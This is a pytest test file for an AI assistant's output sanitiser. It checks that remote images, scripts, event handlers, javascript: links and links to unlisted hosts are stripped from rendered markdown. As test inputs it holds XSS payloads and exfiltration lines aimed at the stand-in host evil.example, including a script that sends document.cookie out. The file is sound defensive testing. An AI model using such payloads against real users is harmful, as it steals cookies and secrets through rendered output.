"""The output sanitiser (assistant/safety/output.py): nothing a renderer would fetch, run or obey survives."""

from __future__ import annotations

import pytest

from assistant.safety.output import IMAGE, REMOTE_IMAGE, clean_markdown, safe_for_display, urls_in

ALLOWED = urls_in(["our guide: https://docs.example/guide and [wiki](https://wiki.example/page)"])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See ![chart](https://evil.example/p.png?d=abc) now", f"See chart {REMOTE_IMAGE} now"),
        ("![](https://evil.example/p.png)", REMOTE_IMAGE),
        ('![logo](<https://evil.example/a b.png> "title")', f"logo {REMOTE_IMAGE}"),
        ("![diagram](img/flow.png)", f"diagram {IMAGE}"),
        ('<img src="https://evil.example/i.png" alt="logo"> hi', f"logo {REMOTE_IMAGE} hi"),
        ("<IMG SRC=https://evil.example/i.png>", REMOTE_IMAGE),
        ("[ref]: https://evil.example/r\n![x][ref]", f"[link removed: evil.example]\nx {REMOTE_IMAGE}"),
    ],
)
def test_images_become_their_alt_text_and_a_marker(text: str, expected: str) -> None:
    assert clean_markdown(text, ALLOWED) == expected


@pytest.mark.parametrize(
    "text",
    [
        "<script>fetch('https://evil.example/'+document.cookie)</script>",
        "<script src=https://evil.example/x.js>",
        '<iframe src="https://evil.example"></iframe>',
        "<svg onload=alert(1)>",
        '<div onmouseover="alert(1)">x</div>',
        "<style>body{background:url(https://evil.example/b.png)}</style>",
        '<a href="javascript:alert(1)">click</a>',
    ],
)
def test_scripts_and_active_html_go(text: str) -> None:
    out = clean_markdown(text, ALLOWED)
    assert not any(bad in out.lower() for bad in ("<script", "<iframe", "<svg", "onload", "onmouseover", "javascript:"))
    assert "evil.example" not in out or "[link removed" in out


def test_harmless_angle_brackets_stay() -> None:
    text = "Use List<String> when a < b and b > c; <b>bold</b> is text."
    assert clean_markdown(text, ALLOWED) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[click](https://evil.example/login?d=1)", "click"),
        ("[https://evil.example/x](https://evil.example/x)", "[link removed: evil.example]"),
        ("bare https://evil.example/x?d=secret. end", "bare [link removed: evil.example]. end"),
        ("www.evil.example/path?d=1", "[link removed: evil.example]"),
        ("<https://evil.example/auto>", "[link removed: evil.example]"),
        ("[js](javascript:alert(1))", "[js] [link removed: javascript](1))"),
        ("mail [me](mailto:x@evil.example?body=secret)", "mail me"),
    ],
)
def test_links_to_addresses_nobody_gave_become_plain_text(text: str, expected: str) -> None:
    assert clean_markdown(text, ALLOWED) == expected


def test_links_the_lead_or_the_sources_gave_stay() -> None:
    text = "Read [the guide](https://docs.example/guide), https://wiki.example/page and [ADR 3](0003-kafka.md)."
    assert clean_markdown(text, ALLOWED) == text
    # The same host with something appended (data carried out in the query) is another address.
    assert clean_markdown("[g](https://docs.example/guide?d=secret)", ALLOWED) == "g"


def test_nested_brackets_and_parentheses_cannot_smuggle_an_address() -> None:
    for text in ("![a [b] c](https://evil.example/n.png)", "[x](https://evil.example/a(b))"):
        assert "https://evil.example" not in clean_markdown(text, ALLOWED)


def test_control_codes_are_dropped() -> None:
    text = "ok \x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \u202eevil"
    out = clean_markdown(text, ALLOWED)
    assert "\x1b" not in out and "\u202e" not in out and "red" in out


def test_display_mode_keeps_links_but_never_images() -> None:
    out = safe_for_display("[the form](https://evil.example/f) ![x](https://evil.example/p.png)")
    assert "[the form](https://evil.example/f)" in out and "![" not in out


@pytest.mark.parametrize(
    "text",
    [
        "See ![chart](https://evil.example/p.png) and [x](https://evil.example) <script>a</script> www.evil.example",
        "[ref]: https://evil.example/r\n![x][ref]\n<img src=x>",
        "plain text with nothing to clean, 1:1 at 10:00",
    ],
)
def test_cleaning_twice_changes_nothing(text: str) -> None:
    once = clean_markdown(text, ALLOWED)
    assert clean_markdown(once, ALLOWED) == once


def test_addresses_are_compared_normalised() -> None:
    assert urls_in(["HTTPS://Docs.Example/guide."]) == frozenset({"https://docs.example/guide"})
